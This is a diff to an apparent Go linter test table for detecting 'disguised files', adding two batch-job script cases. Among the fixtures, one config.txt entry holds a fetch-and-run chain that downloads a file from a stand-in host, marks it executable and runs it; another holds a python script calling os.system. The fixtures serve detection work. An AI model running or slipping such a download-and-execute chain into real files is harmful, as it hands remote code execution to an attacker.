@@ -79,6 +79,8 @@ var opaqueCases = []lintCase{
 	{"assets/palette.png", "disguised-file", "PALETTE=\"000000 ffffff 1f2937\"\n", "warning", 1},
 	{"assets/samples/plate.xls", "disguised-file", "Application: Reader Control 3.2\nWell\tA1\tA2\nOD\t0.112\t0.140\n", "note", 1},
 	{"notes/setup.txt", "disguised-file", "#!/usr/bin/env python3\nimport os\nos.system('id')\n", "warning", 1},
+	{"scripts/job.sbatch.tmpl", "disguised-file", "#!/usr/bin/env bash\n#SBATCH --time=01:00:00\nsrun ./run\n", "note", 1},
+	{"scripts/job.sbatch.txt", "disguised-file", "#!/usr/bin/env bash\n#SBATCH --time=01:00:00\nsrun ./run\n", "warning", 1},
 	{"data/config.txt", "disguised-file", "set -e\nexport P=/tmp/p\ncurl -o \"$P\" https://x.example/p\nchmod +x \"$P\"\n\"$P\"\n", "warning", 1},
 	{"assets/readme.md", "disguised-file", zipFile("a.sh", "id\n"), "warning", 1},
 	{"assets/photo.jpg", "disguised-file", pngFile, "", 0}, // one image format for another: a slip
